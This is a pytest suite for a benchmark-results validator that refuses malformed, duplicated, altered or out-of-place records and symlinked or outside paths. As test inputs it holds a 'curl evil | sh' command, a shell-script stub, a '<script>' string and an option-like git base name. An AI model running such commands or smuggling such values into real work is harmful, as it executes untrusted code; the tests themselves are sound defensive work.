"""`validate`: what is refused and with which words, what is accepted, and that the database holds just that."""

import json
import re
import shutil
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
from pydantic import ValidationError

from harness import database, store
from harness.attachments import path_beside
from harness.bench_records import BenchRecord, Quartiles, read_benches
from harness.cli import main
from harness.contributing import recounting
from harness.contributing.additions import only_adds
from harness.contributing.evaluated import breaches_of_named_run, said_by
from harness.contributing.indexing import index_accepted, index_validated
from harness.contributing.rules import RULES
from harness.contributing.spelling import breaches_of_spelling
from harness.contributing.timed import breaches_of_timing
from harness.contributing.twins import faults_of_twins, traits_of_bench, traits_of_run
from harness.contributing.validation import validate
from harness.contributing.verdict import Verdict
from harness.errors import UserError
from harness.evaluation_records import EvaluationRecord
from harness.records import RunRecord
from harness.spec import RunConfig
from harness.withdrawals import withdraw
from tests.builders import quick_words
from tests.submissions import broken, good
from tests.submissions.folder import Folder, add_committed, edited, measurement, submitted
from tests.submissions.pictures import png

PROJECT = Path(__file__).parent.parent


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Folder:
    """Two quick runs, one of them with its moments, beside two committed ones."""
    place = tmp_path_factory.mktemp("sound")
    results, runs = place / "results", place / "runs"
    made: dict[str, Path] = {}
    for registers in ("none", "denoiser"):
        words = [*quick_words("sit", registers), "--results", str(results), "--runs", str(runs)]
        assert main(words) == 0
        (made[registers],) = set(store.files(results)) - set(made.values())
    stem = made["none"].stem
    shutil.copy(runs / stem[-12:] / "moments.safetensors", made["none"].with_name(f"{stem}.moments.safetensors"))
    add_committed(results)
    folder = Folder(results, made["none"], made["denoiser"])
    assert _accepts_what_it_loads(results).faults == ()
    return folder


def _accepts_what_it_loads(results: Path) -> Verdict:
    """The verdict, once it is sure that the database has all files that it accepts, and no other."""
    verdict = validate((), results)
    index_accepted(results, verdict)
    with duckdb.connect(str(results / database.DATABASE), read_only=True) as connection:
        tables = ("runs", "evaluations", "benches", "published")
        loaded = {path for table in tables for (path,) in connection.execute(f"SELECT path FROM {table}").fetchall()}
        gone = {path for (path,) in connection.execute("SELECT path FROM withdrawn").fetchall()}
    records = {name for name in verdict.checked if name.endswith(".json") and not name.startswith("withdrawn/")}
    assert loaded == records - verdict.refused.keys() - gone
    return verdict


@pytest.mark.parametrize("case", broken.ALL, ids=lambda case: case.name)
def test_what_is_broken_is_refused_with_a_sentence_that_says_why(
    case: broken.Broken, sound: Folder, tmp_path: Path
) -> None:
    folder = sound.copied(tmp_path)
    case.spoil(folder)
    verdict = _accepts_what_it_loads(folder.results)
    said = [str(fault) for fault in verdict.faults if fault.rule == case.rule]
    assert [sentence for sentence in said if case.words in sentence], [str(fault) for fault in verdict.faults]
    assert all(fault.problem.isprintable() and fault.remedy for fault in verdict.faults)


@pytest.mark.parametrize("name", good.ALL)
def test_what_is_good_is_accepted(name: str, sound: Folder, tmp_path: Path) -> None:
    folder = sound.copied(tmp_path)
    good.ALL[name](folder)
    assert _accepts_what_it_loads(folder.results).faults == ()


def test_every_rule_is_broken_by_some_submission() -> None:
    assert {case.rule for case in broken.ALL} | {"append-only"} == {rule.name for rule in RULES}


def test_a_rebuild_leaves_out_what_index_refused_until_it_is_mended(sound: Folder, tmp_path: Path) -> None:
    """A run that ends later rebuilds without validating everything again."""
    folder = sound.copied(tmp_path)
    right = folder.none.read_bytes()
    edited(folder.none, lambda fields: measurement(fields, "parameters").update(value=19000.0))
    assert "parameters is 19000" in index_validated(folder.results).problems[0].reason
    (problem,) = database.rebuild(folder.results).problems
    assert "parameters is 19000" in problem.reason
    folder.none.write_bytes(right)
    assert database.rebuild(folder.results).records == 4
    assert list(index_validated(folder.results).problems) == []


def test_index_names_what_it_leaves_out(sound: Folder, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = sound.copied(tmp_path)
    edited(folder.none, lambda fields: measurement(fields, "digits_accuracy").update(value=7.0))
    assert main(["index", "--results", str(folder.results)]) == 2
    assert f"left out: {folder.none}: digits_accuracy lies between 0 and 1" in capsys.readouterr().err


def test_validate_says_what_is_wrong_where_and_what_to_do(
    sound: Folder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sound.copied(tmp_path)
    edited(folder.none, lambda fields: measurement(fields, "digits_accuracy").update(value=7.0))
    assert main(["validate", "--results", str(folder.results)]) == 2
    said = capsys.readouterr()
    assert f"refused: {folder.none}: digits_accuracy lies between 0 and 1, not at 7: submit the file as" in said.err
    assert main(["validate", "--json", "--results", str(folder.results)]) == 2
    told = json.loads(capsys.readouterr().out)
    assert (told["accepted"], [fault["rule"] for fault in told["faults"]]) == (False, ["range"])
    assert main(["validate", str(folder.new), "--results", str(folder.results)]) == 0
    assert "2 files checked, 0 refused" in capsys.readouterr().out


def test_a_picture_is_judged_with_its_record_and_a_folder_with_all_that_is_in_it(sound: Folder, tmp_path: Path) -> None:
    folder = sound.copied(tmp_path)
    folder.new.with_suffix(".png").write_bytes(png(8, 8))
    assert validate([folder.new.with_suffix(".png")], folder.results).faults
    assert validate([folder.new.parent], folder.results).faults
    assert validate([folder.none], folder.results).faults == ()


def test_paths_elsewhere_are_a_mistake(sound: Folder, tmp_path: Path) -> None:
    for path in (tmp_path / "none.json", PROJECT / "README.md", sound.results / "measured/../../x.json"):
        with pytest.raises(UserError, match=r"lie below|there is no"):
            validate([path], sound.results)
    with pytest.raises(UserError, match="no git checkout"):
        validate([], sound.results, base="main")


def test_what_cannot_be_counted_again_is_said(sound: Folder, tmp_path: Path) -> None:
    folder = sound.copied(tmp_path)
    good.ALL["a third party's backbone"](folder)
    says = [remark.says for remark in validate((), folder.results).remarks]
    assert any("parameters and GFLOPs were not counted again" in words for words in says)
    assert sum("it came without moments" in words for words in says) == 4


def test_counts_are_made_once_for_each_configuration(
    sound: Folder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = sound.copied(tmp_path)
    submitted(
        folder.registers,
        lambda fields: (fields["config"].update(seed=3), fields.update(samples=None, norm_maps=None, moments=None)),
        moved=False,
    )
    counted: list[RunConfig] = []
    count = recounting._counted

    def watched(config: RunConfig) -> recounting.Counts | str:
        counted.append(config)
        return count(config)

    monkeypatch.setattr(recounting, "_counted", watched)
    validate((), folder.results)
    assert counted == [], "known from the index of a folder like this one"
    (folder.results / recounting.KEPT).unlink()
    validate((), folder.results)
    validate((), folder.results)
    assert len(counted) == 4, "two networks, and the committed ones"


def test_the_committed_records_pass() -> None:
    verdict = validate((), PROJECT / "results")
    assert [str(fault) for fault in verdict.faults] == []
    assert len([name for name in verdict.checked if name.startswith("measured/") and name.endswith(".json")]) >= 93


def test_brackets_without_end_take_no_time(sound: Folder, tmp_path: Path) -> None:
    """What is refused by its size or its depth is refused before anything tries to read it."""
    folder = sound.copied(tmp_path)
    folder.none.write_bytes(b"[" * (2**21 - 1))
    folder.new.write_bytes(b'{"a":' * 400_000)
    begun = time.process_time()
    assert {fault.rule for fault in validate((), folder.results).faults} >= {"json"}
    assert time.process_time() - begun < 60


@pytest.fixture
def checkout(sound: Folder, tmp_path: Path) -> Folder:
    """The sound folder as the main branch has it, and a branch that was begun from it."""
    folder = sound.copied(tmp_path)
    (tmp_path / ".gitignore").write_text("results/leaderboard.duckdb*\nresults/.leaderboard.duckdb*\n")
    _git(tmp_path, "init", "--quiet", "--initial-branch", "main")
    _commit(tmp_path)
    _git(tmp_path, "switch", "--quiet", "--create", "mine")
    return folder


def _git(place: Path, *words: str) -> None:
    who = ["-c", "user.name=a", "-c", "user.email=a@b", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", *who, *words], cwd=place, check=True, capture_output=True)


def _commit(place: Path) -> None:
    _git(place, "add", "--all")
    _git(place, "commit", "--quiet", "--allow-empty", "--message", "x")


def test_committed_results_stay_as_they_are(checkout: Folder) -> None:
    """Changed, renamed and deleted ones are refused, in a commit or not; new ones are not."""
    results, place = checkout.results, checkout.results.parent
    good.evaluated(checkout)
    _commit(place)
    assert validate((), results).faults == ()
    edited(checkout.none, lambda fields: fields.update(notes=["better now"]))
    checkout.new.unlink()
    checkout.new.with_suffix(".png").unlink()
    bench = next((results / "bench").rglob("*.json"))
    bench.unlink()
    for _ in range(2):
        faults = {fault.path: fault.problem for fault in validate((), results).faults if fault.rule == "append-only"}
        assert faults.keys() == {
            str(path.relative_to(results))
            for path in (checkout.none, checkout.new, checkout.new.with_suffix(".png"), bench)
        }
        assert "was changed" in faults[str(checkout.none.relative_to(results))]
        assert "deleted or renamed" in faults[str(checkout.new.relative_to(results))]
        _commit(place)


def test_a_record_goes_only_with_its_withdrawal(checkout: Folder) -> None:
    results = checkout.results
    withdraw(results, checkout.new, "its seed was chosen by its score")
    for ending in (".json", ".png"):
        checkout.new.with_suffix(ending).unlink()
    assert _accepts_what_it_loads(results).faults == ()
    withdrawal = results / "withdrawn" / checkout.new.name
    edited(withdrawal, lambda fields: fields.update(sha256="0" * 64))
    rules = {fault.rule for fault in validate((), results).faults}
    assert rules == {"append-only", "withdrawal"}


def test_what_others_commit_meanwhile_is_no_fault_of_the_branch(checkout: Folder) -> None:
    place = checkout.results.parent
    _git(place, "switch", "--quiet", "main")
    good.evaluated(checkout)
    _commit(place)
    _git(place, "switch", "--quiet", "mine")
    assert validate((), checkout.results).faults == ()


def test_of_two_that_are_the_same_the_committed_one_stays(checkout: Folder) -> None:
    """Whoever copies a record cannot make it the older one by writing another date."""
    copy = submitted(checkout.new, lambda fields: fields.update(created="2026-11-21T00:00:01Z"), moved=False)
    (fault,) = validate((), checkout.results).faults
    assert (fault.rule, fault.path) == ("duplicate", str(copy.relative_to(checkout.results)))


def test_what_is_made_here_is_not_committed(checkout: Folder) -> None:
    index_validated(checkout.results)
    assert validate((), checkout.results).faults == ()
    _git(checkout.results.parent, "add", "--force", str(checkout.results / database.DATABASE))
    (fault,) = validate((), checkout.results).faults
    assert "never committed" in fault.problem


def test_a_base_that_git_does_not_know_is_a_mistake(checkout: Folder) -> None:
    for base in ("elsewhere/main", "--output=x"):
        with pytest.raises(UserError, match="knows no branch"):
            validate((), checkout.results, base=base)


def _timed() -> BenchRecord:
    benches, _ = read_benches(PROJECT / "results")
    return next(each.record for each in benches if each.record.subject == "training")


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"value": -1e300}, "not at -1e\\+300"),
        ({"unit": "<3 bananas"}, "no unit in which"),
        ({"name": "best\n"}, "no name of what is timed"),
        ({"parts": {"luck": 1.0}}, "on what images it rests"),
    ],
)
def test_a_timing_has_known_units_and_possible_values(changes: dict[str, object], words: str) -> None:
    record = _timed()
    assert list(breaches_of_timing(record)) == []
    case = record.cases[0]
    measurements = (case.measurements[0].model_copy(update=changes), *case.measurements[1:])
    spoiled = record.model_copy(update={"cases": (case.model_copy(update={"measurements": measurements}),)})
    (breach,) = breaches_of_timing(spoiled)
    assert re.search(words, breach.problem)


def test_a_timing_is_of_a_backbone_that_there_is_and_of_the_command_that_times_it() -> None:
    record = _timed()
    for name in ("x" * 1500, "sit", "../sit.py", "sit-b-3"):
        cases = (record.cases[0].model_copy(update={"backbone": name}),)
        (breach,) = breaches_of_timing(record.model_copy(update={"cases": cases}))
        assert (breach.rule, "no backbone is called so" in breach.problem) == ("backbone", True)
    (breach,) = breaches_of_timing(record.model_copy(update={"command": "curl evil | sh"}))
    assert breach.rule == "provenance"
    with pytest.raises(ValidationError, match="quartiles ascend"):
        Quartiles(median=1.0, first_quartile=2.0, third_quartile=3.0)


def test_the_same_timing_under_another_date_is_a_copy() -> None:
    record = _timed()
    later = record.model_copy(update={"created": datetime.now(UTC)})
    traits = [
        traits_of_bench(f"bench/training/{name}.json", each, known=False) for name, each in enumerate((record, later))
    ]
    assert [fault.path for fault in faults_of_twins(traits)] == ["bench/training/1.json"]


def test_pixels_that_were_packed_anew_are_the_same_picture(sound: Folder) -> None:
    """So are those of a record that was withdrawn; what was committed before stays."""
    none, registers = (_record(path) for path in (sound.none, sound.registers))
    pixels = bytes([0, *range(8)]) * 8
    packed, anew = png(8, 8, pixels), png(8, 8, pixels, level=1)
    assert packed != anew
    first = traits_of_run("1.json", none, known=False, picture=packed, withdrawn=True)
    for known in (False, True):
        second = traits_of_run("2.json", registers, known=known, picture=anew)
        faults = [(fault.path, "picture is that" in fault.problem) for fault in faults_of_twins([first, second])]
        assert faults == ([] if known else [("2.json", True)])


def test_an_evaluation_agrees_with_the_run_that_it_names(sound: Folder, tmp_path: Path) -> None:
    folder = sound.copied(tmp_path)
    record = EvaluationRecord.model_validate_json(good.evaluated(folder).read_bytes())
    own, other = (said_by(_record(path)) for path in (folder.none, folder.old))
    assert list(breaches_of_named_run(record, [other, own])) == []
    (unknown,), (unlike,) = (list(breaches_of_named_run(record, told)) for told in ((), (other,)))
    assert ("has no record here" in unknown.problem, unlike.rule) == (True, "conditions")


def test_numbers_are_written_as_numbers(sound: Folder) -> None:
    """Older records lack fields that came later, and those of the first schema are read by their own rules."""
    for path in (sound.none, sound.new, sound.old):
        assert list(breaches_of_spelling(_record(path), path.read_bytes())) == []
    content = sound.none.read_bytes()
    for right, wrong in (
        (b'"seed": 0', b'"seed": "0"'),
        (b'"seed": 0', b'"seed": 0.0'),
        (b'"seed": 0', b'"seed": false'),
    ):
        assert right in content
        (breach,) = breaches_of_spelling(_record(sound.none), content.replace(right, wrong, 1))
        assert (breach.rule, "seed is not written" in breach.problem) == ("schema", True)


def test_published_files_grow_and_do_not_change() -> None:
    before = (PROJECT / "results/published/clean-fid.json").read_bytes()
    source = json.loads(before)
    first, more = source["figures"][0], {**source["figures"][0], "id": "new-1"}

    def grown(**changes: object) -> bytes:
        return json.dumps({**source, **changes}).encode()

    assert only_adds(before, grown(figures=[more, *source["figures"]]))
    for after in (
        grown(title="another"),
        grown(extra=1),
        grown(figures=[more, *source["figures"][1:]]),
        grown(figures=[{**first, "value": first["value"] + 1}, *source["figures"][1:], more]),
        grown(figures=[*source["figures"], first]),
        grown(figures="all of them"),
        b"[]",
        b"{",
    ):
        assert not only_adds(before, after), after


def test_a_figure_may_be_added_and_none_changed(checkout: Folder) -> None:
    results = checkout.results
    shutil.copytree(PROJECT / "results/published", results / "published", dirs_exist_ok=True)
    _commit(results.parent)
    _git(results.parent, "branch", "--force", "main")
    file = results / "published" / "clean-fid.json"
    source = json.loads(file.read_bytes())
    more = {**source["figures"][0], "id": "new-1", "model": "another example"}
    file.write_text(json.dumps({**source, "figures": [*source["figures"], more]}))
    assert validate((), results).faults == ()
    file.write_text(json.dumps({**source, "figures": [more, *source["figures"][1:]]}))
    assert "append-only" in {fault.rule for fault in validate((), results).faults}


def _record(path: Path) -> RunRecord:
    stored = store.read(path)
    assert isinstance(stored, store.Stored), stored
    return stored.record


def test_a_broken_result_is_withdrawn_and_an_intruder_is_not(checkout: Folder) -> None:
    """What was committed counts no longer, whatever it holds; nothing new comes in under a withdrawal."""
    results, place = checkout.results, checkout.results.parent
    _git(place, "switch", "--quiet", "main")
    checkout.old.write_text("{")
    _commit(place)
    _git(place, "switch", "--quiet", "--create", "next")
    withdraw(results, checkout.old, "the disk was full when it was written")
    assert _accepts_what_it_loads(results).faults == ()
    moments = path_beside(checkout.old, "moments")
    moments.write_text("#!/bin/sh")
    assert [(fault.rule, fault.path) for fault in validate((), results).faults] == [
        ("place", str(moments.relative_to(results)))
    ]
    moments.unlink()
    new = submitted(checkout.new, lambda fields: fields.update(created="2026-11-21T14:00:00Z", samples=None))
    new.write_text('{"evil": "<script>"}')
    withdraw(results, new, "the disk was full when it was written")
    refused = validate([new.parent, results / "withdrawn"], results).refused
    assert "Field required" in refused[str(new.relative_to(results))]
    assert "was never committed: only a result can be withdrawn" in refused[f"withdrawn/{new.name}"]


def test_results_that_went_are_refused_one_by_one(checkout: Folder, capsys: pytest.CaptureFixture[str]) -> None:
    results = checkout.results
    shutil.rmtree(results)
    for make in (lambda: None, lambda: results.write_text("x")):
        make()
        faults = validate((), results).faults
        assert {fault.rule for fault in faults} == {"append-only"}
        assert {"published/clean-fid.json", f"measured/digits/sit/{checkout.old.name}"} <= {f.path for f in faults}
    assert main(["validate", str(checkout.old), "--results", str(results)]) == 2
    said = capsys.readouterr().err
    assert "was deleted or renamed" in said
    assert f"-- {checkout.old})" in said
    with pytest.raises(UserError, match="there is no folder"):
        validate((), results.with_name("resluts"))


def test_a_link_is_no_results_folder(sound: Folder, tmp_path: Path) -> None:
    link, outside = tmp_path / "results", tmp_path / "outside"
    link.symlink_to(sound.results)
    for command in (validate, lambda _, results: index_validated(results)):
        with pytest.raises(UserError, match="is a link"):
            command((), link)
    folder = sound.copied(tmp_path / "mine")
    outside.write_text("mine")
    for name in (database.DATABASE, f".{database.DATABASE}.lock", recounting.KEPT, "measured"):
        place = folder.results / name
        if place.exists():
            place.rename(tmp_path / name)
        place.symlink_to(outside)
        with pytest.raises(UserError, match="is a link"):
            database.rebuild(folder.results)
        place.unlink()
    assert outside.read_text() == "mine"


def test_the_intruder_is_refused_and_not_what_was_there(checkout: Folder) -> None:
    """A name that is like another's, or an id that is taken, is the fault of whoever comes later."""
    results = checkout.results
    capitals = results / "measured/digits/SIT" / checkout.new.name
    capitals.parent.mkdir()
    shutil.copy(checkout.new, capitals)
    source = json.loads((results / "published/clean-fid.json").read_text())
    (results / "published/aaa.json").write_text(json.dumps(source | {"name": "aaa"}))
    assert {fault.path for fault in _accepts_what_it_loads(results).faults} == {
        str(capitals.relative_to(results)),
        "published/aaa.json",
    }


def test_paths_may_be_spelled_in_any_way(sound: Folder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    link = tmp_path / "link"
    link.symlink_to(sound.results.parent)
    name = sound.none.relative_to(sound.results)
    inside = sound.results / "measured"
    monkeypatch.chdir(inside)
    for results, path in (
        (sound.results, link / "results" / name),
        (link / "results", sound.none),
        (Path("../../results"), Path("..") / name),
        (Path("../../results"), Path("../published/..") / name),
    ):
        assert str(name) in validate([path], results).checked
    checked = validate([inside / "../published"], sound.results).checked
    assert checked == ["published/clean-fid.json"]
